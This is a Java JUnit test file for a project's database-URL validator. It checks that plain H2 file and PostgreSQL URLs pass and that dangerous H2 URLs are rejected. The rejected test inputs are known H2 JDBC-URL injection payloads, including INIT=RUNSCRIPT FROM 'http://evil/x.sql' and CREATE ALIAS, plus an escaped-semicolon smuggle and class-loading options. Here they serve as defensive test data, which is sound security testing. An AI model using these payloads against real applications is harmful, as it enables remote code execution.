package org.stateferry.batch;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/home/me/.stateferry/repository/stateferry;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE",
                "jdbc:h2:file:C:/Users/me/stateferry",
                "jdbc:h2:file:~/db;user=sa;password=p;",
                "jdbc:postgresql://db.example.org/stateferry?sslmode=require",
                "JDBC:H2:FILE:/x"
            })
    void filesAndServersOfPostgresqlAreGood(String url) {
        assertThat(DatabaseUrl.objection(url)).isNull();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|option INIT,",
                "jdbc:h2:file:/x; init =CREATE ALIAS|option INIT",
                "jdbc:h2:file:/x;WRITE_DELAY=0\\;INIT=x|option WRITE_DELAY",
                "jdbc:h2:file:/x;AUTO_SERVER=TRUE|option AUTO_SERVER",
                "jdbc:h2:file:/x;DATABASE_EVENT_LISTENER='a.B'|option DATABASE_EVENT_LISTENER",
                "jdbc:h2:file:/x;JAVA_OBJECT_SERIALIZER=a.B|option JAVA_OBJECT_SERIALIZER",
                "jdbc:h2:file:/x;TRACE_LEVEL_SYSTEM_OUT=3|option TRACE_LEVEL_SYSTEM_OUT",
                "jdbc:h2:tcp://evil/x|something else than a file (tcp)",
                "jdbc:h2:ssl:evil/x|something else than a file (ssl)",
                "jdbc:h2:mem:x|something else than a file (mem)",
                "jdbc:h2:zip:/x.zip!/db|something else than a file (zip)",
                "jdbc:h2:file:zip:/x.zip!/db|in another form (jdbc:h2:file:zip:/x.zip!/db)",
                "jdbc:h2:file:classpath:/db|in another form",
                "jdbc:h2:/x|something else than a file ()",
                "jdbc:derby:x;create=true|neither H2 nor PostgreSQL"
            })
    void whatRunsOrReachesSomethingElseIsNamed(String url, String words) {
        assertThat(DatabaseUrl.objection(url)).contains(words);
    }
}
